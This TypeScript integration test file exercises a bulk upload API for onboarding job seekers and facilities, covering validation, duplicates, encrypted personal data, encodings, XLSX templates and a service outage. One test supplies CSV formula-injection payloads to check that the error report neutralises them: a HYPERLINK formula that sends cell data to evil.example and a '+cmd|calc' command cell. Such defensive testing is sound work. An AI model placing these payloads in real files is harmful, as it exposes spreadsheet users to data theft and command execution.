/**
 * Bulk onboarding through the HTTP API and a real graphile-worker runner: row outcomes, duplicates,
 * the error report (formula injection, correction and re-upload), file-level failures, encodings,
 * XLSX, templates, generated seekers, and a signals outage.
 */
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BUILT_IN_PLACES, generateSeekers, SEEKER_COLUMNS } from '../../lib/aggregator/fixtures/seekers.ts';
import { createUpload, csv, errorReport, itemsOf, onboard, participantsOf, startUpload, waitForJob } from '../helpers/bulk-upload.ts';
import { startTestPlatform, type TestAggregator, type TestPlatform } from '../helpers/platform.ts';

let platform: TestPlatform;

const HEADER = ['name', 'phone', 'email', 'age', 'education', 'skills', 'district', 'state'];
const seeker = (name: string, phone: string, email = '', state = 'Haryana') => [name, phone, email, '24', 'iti', 'electrician', 'Kaithal', state];

/** The error report of `uploadId` parsed into records keyed by header. */
async function reportRows(agg: TestAggregator, uploadId: string): Promise<Record<string, string>[]> {
  const res = await errorReport(platform, agg.token, uploadId);
  expect(res.status).toBe(200);
  return parse(res.body, { columns: true, bom: true });
}

beforeAll(async () => {
  // Chunks of three rows: every file below spans several chunks, processed two at a time.
  platform = await startTestPlatform({ worker: true, env: { BULK_UPLOAD_CHUNK_ROWS: '3' } });
});
afterAll(() => platform.stop());

describe('row outcomes', () => {
  let agg: TestAggregator;
  const file = csv(HEADER, [
    ['Priya Sharma', '98765 43210', 'Priya.Sharma@Example.in', '24', 'iti', 'electrician|wiring', 'Kaithal', 'Haryana'],
    ['Bad Row', '12345', 'not-an-email', '7', 'phd', 'tailoring', 'Kaithal', 'Haryana'],
    ['Ravi Kumar', '+91-98765-00001', '', '30', 'graduate', 'driving', 'Hisar', 'haryana'],
    ['Priya Again', '+919876543210', '', '25', 'iti', 'welding', 'Kaithal', 'Haryana'],
    ['Mail Twin', '9000000001', 'priya.sharma@example.in', '26', 'diploma', 'cooking', 'Ambala', 'Haryana'],
    ['', '9000000002', '', '40', '', '', '', ''],
    ['Asha Devi', '9000000003', '', '35', 'primary', 'tailoring', 'Kaithal', 'Haryana'],
  ]);
  let firstJob: Awaited<ReturnType<typeof onboard>>;

  beforeAll(async () => {
    agg = await platform.aggregator({ types: ['seeker'] });
    firstJob = await onboard(platform, agg.token, { file });
  });

  it('passes valid rows, fails rows with every field error, skips repetitions within the file', async () => {
    expect(firstJob).toMatchObject({ status: 'completed', status_reason: null, total_rows: 7, passed: 3, failed: 2, skipped: 2, schema_id: 'urn:ldp:local-discovery:seeker' });
    expect(firstJob.completed_at).toEqual(expect.any(String));
    expect(firstJob.errors_csv_object_key).toMatch(/errors\.csv$/);

    const participants = await participantsOf(platform, agg.aggregatorId);
    expect(participants.map((p) => p.row_number)).toEqual([2, 4, 8]);
    const items = await itemsOf(platform, agg.aggregatorId);
    expect(items.map((i) => i.item_id).sort()).toEqual(participants.map((p) => p.participant_id).sort());

    const rows = await reportRows(agg, firstJob.upload_id);
    expect(rows.map((r) => [r.row_number, r.outcome])).toEqual([['3', 'failed'], ['5', 'skipped'], ['6', 'skipped'], ['7', 'failed']]);
    expect(rows[0].error_fields.split('; ').sort()).toEqual(['age', 'education', 'email', 'phone']);
    expect(rows[0].error_messages).toMatch(/phone must be a valid phone number/);
    expect(rows[1]).toMatchObject({ error_fields: 'phone', error_messages: 'phone repeats row 2 of this file' });
    expect(rows[2]).toMatchObject({ error_fields: 'email', error_messages: 'email repeats row 2 of this file' });
    expect(rows[3].error_fields.split('; ').sort()).toEqual(['name', 'state']);
    // The original cells, as uploaded.
    expect(rows[0]).toMatchObject({ name: 'Bad Row', phone: '12345', email: 'not-an-email', age: '7', education: 'phd' });
  });

  it('stores identity encrypted with blind indexes, and pushes the profile without private fields', async () => {
    const [priya] = await participantsOf(platform, agg.aggregatorId);
    expect(priya.phone_encrypted).not.toContain('9876543210');
    expect(platform.ctx.pii.decrypt(priya.phone_encrypted)).toBe('+919876543210');
    expect(platform.ctx.pii.decrypt(priya.email_encrypted)).toBe('priya.sharma@example.in');
    expect(platform.ctx.pii.decrypt(priya.name_encrypted)).toBe('Priya Sharma');
    expect(priya.phone_index.equals(platform.ctx.pii.blindIndex('phone', '+919876543210'))).toBe(true);
    expect(priya.profile).toEqual({ age: 24, education: 'iti', skills: ['electrician', 'wiring'], district: 'Kaithal', state: 'Haryana' });
    expect(priya).toMatchObject({ domain: 'seeker', item_type: 'seeker_profile', bulk_upload_id: firstJob.upload_id, lifecycle_status: 'live', pushed_at: expect.any(Date) });

    const item = await request(platform.url('signals')).get(`/api/v1/items/${priya.participant_id}`).set('x-api-key', await platform.apiKey('signals'));
    expect(item.status).toBe(200);
    expect(item.body).toMatchObject({
      item_network: 'local-discovery', item_domain: 'seeker', item_type: 'seeker_profile', lifecycle_status: 'live',
      item_state: { age: 24, education: 'iti', skills: ['electrician', 'wiring'], district: 'Kaithal', state: 'Haryana' },
      item_schema_url: 'urn:ldp:local-discovery:seeker', created_by: `aggregator:${agg.aggregatorId}`,
    });
  });

  it('skips every row passed by an earlier upload of the same file as already registered', async () => {
    const itemsBefore = (await itemsOf(platform, agg.aggregatorId)).length;
    const again = await onboard(platform, agg.token, { file });
    expect(again).toMatchObject({ status: 'completed', total_rows: 7, passed: 0, failed: 2, skipped: 5 });
    const rows = await reportRows(agg, again.upload_id);
    expect(rows.find((r) => r.row_number === '2')).toMatchObject({ outcome: 'skipped', error_fields: 'phone; email', error_messages: 'phone already registered with this aggregator; email already registered with this aggregator' });
    expect(rows.find((r) => r.row_number === '4')!.error_messages).toBe('phone already registered with this aggregator');
    expect(rows.find((r) => r.row_number === '5')!.error_messages).toBe('phone repeats row 2 of this file');
    expect((await participantsOf(platform, agg.aggregatorId))).toHaveLength(3);
    expect((await itemsOf(platform, agg.aggregatorId))).toHaveLength(itemsBefore);
  });

  it('onboards a row corrected in the downloaded error report when the report is uploaded again', async () => {
    const res = await errorReport(platform, agg.token, firstJob.upload_id);
    const records: string[][] = parse(res.body, { bom: true });
    const header = records[0];
    const bad = records.find((r) => r[0] === '3')!;
    bad[header.indexOf('phone')] = '9000000099';
    bad[header.indexOf('email')] = 'bad.row@example.in';
    bad[header.indexOf('age')] = '27';
    bad[header.indexOf('education')] = 'secondary';
    const corrected = csv(header, records.slice(1));
    const job = await onboard(platform, agg.token, { file: corrected, filename: 'errors-corrected.csv' });
    // Row 3 (corrected) passes; the skipped rows are still registered; row 7 is still incomplete.
    expect(job).toMatchObject({ status: 'completed', total_rows: 4, passed: 1, failed: 1, skipped: 2 });
    const added = (await participantsOf(platform, agg.aggregatorId)).find((p) => p.bulk_upload_id === job.upload_id);
    expect(platform.ctx.pii.decrypt(added.phone_encrypted)).toBe('+919000000099');
    expect(added.profile).toMatchObject({ age: 27, education: 'secondary' });
  });
});

describe('error report', () => {
  it('protects cells against formula injection but leaves plain numbers alone', async () => {
    const agg = await platform.aggregator({ types: ['seeker'] });
    const file = csv([...HEADER, 'longitude', 'latitude'], [
      ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '12345', '', '24', 'iti', 'electrician', 'Kaithal', 'Haryana', '-12.5', '29.1'],
      ['@SUM(1+1)', '123', '', '24', 'iti', '+cmd|calc', '-district', 'Haryana', '76.5', '29.1'],
      ['Tab Name', '9000000202', '', '24', 'iti', 'electrician', '\tKaithal', 'Haryana', '-76.5', '29.1'],
    ]);
    const job = await onboard(platform, agg.token, { file });
    expect(job).toMatchObject({ failed: 3 });
    const res = await errorReport(platform, agg.token, job.upload_id);
    expect(res.headers['content-disposition']).toBe(`attachment; filename=bulk-upload-${job.upload_id}-errors.csv`);
    expect(res.body.startsWith('\ufeffrow_number,outcome,error_fields,error_messages,name,')).toBe(true);
    const rows: Record<string, string>[] = parse(res.body, { columns: true, bom: true });
    expect(rows[0].name).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"Click")');
    expect(rows[0].longitude).toBe('-12.5');
    expect(rows[1].name).toBe('\'@SUM(1+1)');
    expect(rows[1].skills).toBe('\'+cmd|calc');
    expect(rows[1].district).toBe('\'-district');
    expect(rows[2].longitude).toBe('-76.5');
    // Cells are trimmed when read, so the tab never reaches the report; messages are protected too.
    expect(rows.every((r) => !/^[=+\-@\t\r]/.test(r.error_messages))).toBe(true);
  });
});

describe('file-level problems', () => {
  it('fails the job naming the missing columns, onboards nothing, and refuses to start it again', async () => {
    const agg = await platform.aggregator({ types: ['seeker'] });
    const job = await onboard(platform, agg.token, { file: csv(['Full Name', 'Mobile', 'Town'], [['Priya Sharma', '9876543210', 'Kaithal']]) });
    expect(job).toMatchObject({ status: 'failed', total_rows: null, passed: 0, failed: 0, skipped: 0, errors_csv_object_key: null });
    expect(job.status_reason).toMatch(/required column is missing: state/);
    expect(job.completed_at).toEqual(expect.any(String));
    expect(await participantsOf(platform, agg.aggregatorId)).toEqual([]);
    expect(await itemsOf(platform, agg.aggregatorId)).toEqual([]);
    const { rows: chunks } = await platform.ctx.pool.query('SELECT 1 FROM aggregator.bulk_upload_chunks WHERE upload_id = $1', [job.upload_id]);
    expect(chunks).toEqual([]);
    const restart = await startUpload(platform, agg.token, job.upload_id);
    expect(restart.status).toBe(409);
    expect(restart.body.error.code).toBe('bulk_upload_failed');
  });

  it('fails an empty file, and completes a header-only file with no rows and no report', async () => {
    const agg = await platform.aggregator({ types: ['seeker'] });
    const empty = await onboard(platform, agg.token, { file: Buffer.alloc(0) });
    expect(empty).toMatchObject({ status: 'failed', status_reason: 'the file is empty' });
    const headerOnly = await onboard(platform, agg.token, { file: Buffer.from('\ufeffname,phone,state\r\n') });
    expect(headerOnly).toMatchObject({ status: 'completed', total_rows: 0, passed: 0, failed: 0, skipped: 0, errors_csv_object_key: null });
    expect((await errorReport(platform, agg.token, headerOnly.upload_id)).status).toBe(404);
  });
});

describe('encodings, quoting and XLSX', () => {
  it('reads UTF-8 with a BOM and quoted newlines, UTF-16 and Windows-1252 through the whole pipeline', async () => {
    const agg = await platform.aggregator({ types: ['seeker'] });
    const text = (names: string[], first: number) => `name,phone,locality,state\r\n${names.map((n, i) => `"${n}",${first + i},"Ward 4\nMain Road",Punjab`).join('\r\n')}\r\n`;
    const files: [string, Buffer, string][] = [
      ['utf-8', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text(['Zoë Fernandes', 'प्रिया शर्मा'], 9100000001))]), 'utf-8'],
      ['utf-16le', Buffer.concat([Buffer.from([0xff, 0xfe]), iconv.encode(text(['Gurpreet Kaur', 'ਗੁਰਪ੍ਰੀਤ'], 9100000011), 'utf16le')]), 'utf-16le'],
      ['windows-1252', iconv.encode(text(['José Müller', 'Renée D’Souza'], 9100000021), 'win1252'), 'windows-1252'],
    ];
    for (const [label, file, encoding] of files) {
      const job = await onboard(platform, agg.token, { file, filename: `${label}.csv` });
      expect(job, label).toMatchObject({ status: 'completed', encoding, total_rows: 2, passed: 2 });
    }
    const stored = await participantsOf(platform, agg.aggregatorId);
    expect(stored.map((p) => platform.ctx.pii.decrypt(p.name_encrypted)).sort()).toEqual(
      ['Gurpreet Kaur', 'José Müller', 'Renée D’Souza', 'Zoë Fernandes', 'प्रिया शर्मा', 'ਗੁਰਪ੍ਰੀਤ'].sort());
    expect(stored[0].profile.locality).toBe('Ward 4\nMain Road');
  });

  it('onboards an XLSX workbook', async () => {
    const agg = await platform.aggregator({ types: ['provider'] });
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('Facilities');
    sheet.addRow(['facility_id', 'name', 'category', 'district_name', 'state_name', 'latitude', 'longitude']);
    sheet.addRow([533521, 'ITI Women', 'Education', 'Mohindergarh', 'Haryana', 28.2718987, 76.1440603]);
    sheet.addRow([733237, 'govt sr secondary school', 'education', 'Kaithal', 'Haryana', 29.6573681, 76.5420837]);
    sheet.addRow([727121, 'Govt Veterinory Hospital N', 'Hospital', 'Charkhi Dadri', 'Haryana', 28.4660933, 76.1800025]);
    const file = Buffer.from(await workbook.xlsx.writeBuffer());
    const job = await onboard(platform, agg.token, {
      participantType: 'provider', file, filename: 'facilities.xlsx',
      columnMap: { facility_id: 'external_id', district_name: 'district', state_name: 'state' },
    });
    expect(job).toMatchObject({ status: 'completed', file_format: 'xlsx', sheet: 'Facilities', total_rows: 3, passed: 2, failed: 1, skipped: 0 });
    const rows = await reportRows(agg, job.upload_id);
    expect(rows).toEqual([expect.objectContaining({ row_number: '4', error_fields: 'category', facility_id: '727121' })]);
    const items = await itemsOf(platform, agg.aggregatorId);
    expect(items.map((i) => i.item_state).find((s) => s.external_id === '733237')).toMatchObject({ category: 'Education', latitude: 29.6573681 });
  });

  it('tells external ids apart by their text: "7" and "007" are two ids, a second "7" repeats the first', async () => {
    const agg = await platform.aggregator({ types: ['provider'] });
    const header = ['facility_id', 'name', 'category', 'district_name', 'state_name', 'latitude', 'longitude'];
    const at = (id: string, name: string) => [id, name, 'Education', 'Kaithal', 'Haryana', '29.65', '76.54'];
    const job = await onboard(platform, agg.token, {
      participantType: 'provider',
      file: csv(header, [at('7', 'A'), at('007', 'B'), at('7', 'C'), at('123456789012345678', 'D'), at('123456789012345678', 'E'), at('70', 'F')]),
      columnMap: { facility_id: 'external_id', district_name: 'district', state_name: 'state' },
    });
    expect(job).toMatchObject({ status: 'completed', total_rows: 6, passed: 4, failed: 0, skipped: 2 });
    const rows = await reportRows(agg, job.upload_id);
    expect(rows.map((r) => [r.row_number, r.error_messages])).toEqual([
      ['4', 'external_id repeats row 2 of this file'], ['6', 'external_id repeats row 5 of this file'],
    ]);
  });

  it('round-trips the CSV and XLSX templates: download, fill in, upload, every row passes', async () => {
    const agg = await platform.aggregator({ types: ['seeker'] });
    const auth = { authorization: `Bearer ${agg.token}` };
    const csvTemplate = await request(platform.url('aggregator')).get('/v1/bulk-uploads/template?participant_type=seeker&format=csv').set(auth).buffer(true);
    expect(csvTemplate.status).toBe(200);
    const [header, example] = parse(csvTemplate.text, { bom: true }) as string[][];
    const filled = [example, ...[1, 2].map((i) => header.map((h, c) => (h === 'phone' ? `+9190000003${i}0` : h === 'email' ? `csv${i}@example.in` : example[c])))];
    const fromCsv = await onboard(platform, agg.token, { file: csv(header, filled), filename: 'template.csv' });
    expect(fromCsv).toMatchObject({ status: 'completed', total_rows: 3, passed: 3, failed: 0, skipped: 0 });

    const xlsxTemplate = await request(platform.url('aggregator')).get('/v1/bulk-uploads/template?participant_type=seeker&format=xlsx').set(auth)
      .buffer(true).parse((res, done) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => done(null, Buffer.concat(chunks)));
      });
    expect(xlsxTemplate.status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsxTemplate.body);
    const grid = workbook.getWorksheet('Participants')!;
    const columns = (grid.getRow(1).values as string[]).slice(1);
    [1, 2].forEach((i) => {
      const values: Record<string, ExcelJS.CellValue> = { name: `Grid Seeker ${i}`, phone: `90000004${i}0`, state: 'Kerala', skills: 'nursing assistant|cooking', age: 30 + i, willing_to_relocate: 'yes' };
      grid.getRow(1 + i).values = columns.map((h) => values[h] ?? null);
    });
    const fromXlsx = await onboard(platform, agg.token, { file: Buffer.from(await workbook.xlsx.writeBuffer()), filename: 'template.xlsx' });
    expect(fromXlsx).toMatchObject({ status: 'completed', file_format: 'xlsx', sheet: 'Participants', total_rows: 2, passed: 2, failed: 0, skipped: 0 });
  });
});

describe('generated seekers', () => {
  it('onboards a generated file exactly as generated: valid rows pass, error rows fail, duplicates are skipped', async () => {
    const agg = await platform.aggregator({ types: ['seeker'] });
    const rows = [...generateSeekers({ count: 240, seed: 42, errorRate: 0.1, duplicateRate: 0.08, places: BUILT_IN_PLACES })];
    const count = (kind: string) => rows.filter((r) => r.kind === kind).length;
    expect(count('error')).toBeGreaterThan(10);
    expect(count('duplicate')).toBeGreaterThan(5);
    const job = await onboard(platform, agg.token, { file: csv([...SEEKER_COLUMNS], rows.map((r) => SEEKER_COLUMNS.map((c) => r.values[c]))) });
    expect(job).toMatchObject({ status: 'completed', total_rows: 240, passed: count('valid'), failed: count('error'), skipped: count('duplicate') });
    const report = await reportRows(agg, job.upload_id);
    const expected = rows.map((r, i) => ({ row: String(i + 2), kind: r.kind, field: r.field })).filter((r) => r.kind !== 'valid');
    expect(report.map((r) => ({ row: r.row_number, kind: r.outcome === 'failed' ? 'error' : 'duplicate' }))).toEqual(expected.map(({ row, kind }) => ({ row, kind })));
    report.forEach((r, i) => expect(r.error_fields.split('; ')).toContain(expected[i].field));
  });
});

describe('signals outage', () => {
  it('counts no row while signals is unreachable and completes once it answers again', async () => {
    const agg = await platform.aggregator({ types: ['seeker'] });
    const signalsUrl = platform.ctx.urls.signals;
    platform.ctx.urls.signals = 'http://127.0.0.1:9';
    try {
      const created = await createUpload(platform, agg.token, { participantType: 'seeker', file: csv(HEADER, [seeker('Asha One', '9200000001'), seeker('Asha Two', '9200000002')]) });
      await startUpload(platform, agg.token, created.body.upload_id);
      // Wait until a chunk attempt has failed (graphile-worker records it on the job).
      for (let i = 0; ; i++) {
        const { rows } = await platform.ctx.pool.query(
          `SELECT j.last_error FROM graphile_worker._private_jobs j JOIN graphile_worker._private_tasks t ON t.id = j.task_id
            WHERE t.identifier = 'bulk-upload-chunk' AND j.payload->>'upload_id' = $1 AND j.last_error IS NOT NULL`, [created.body.upload_id]);
        if (rows.length) {
          expect(rows[0].last_error).toMatch(/signals did not answer/);
          break;
        }
        if (i > 200) throw new Error('no failed chunk attempt');
        await new Promise((resolve) => setTimeout(resolve, 50));
      }
      const during = await request(platform.url('aggregator')).get(`/v1/bulk-uploads/${created.body.upload_id}`).set('authorization', `Bearer ${agg.token}`);
      expect(during.body).toMatchObject({ status: 'running', passed: 0, failed: 0, skipped: 0 });
      expect(await participantsOf(platform, agg.aggregatorId)).toEqual([]);
      platform.ctx.urls.signals = signalsUrl;
      const job = await waitForJob(platform, agg.token, created.body.upload_id, 30_000);
      expect(job).toMatchObject({ status: 'completed', passed: 2 });
      expect(await itemsOf(platform, agg.aggregatorId)).toHaveLength(2);
    } finally {
      platform.ctx.urls.signals = signalsUrl;
    }
  });
});
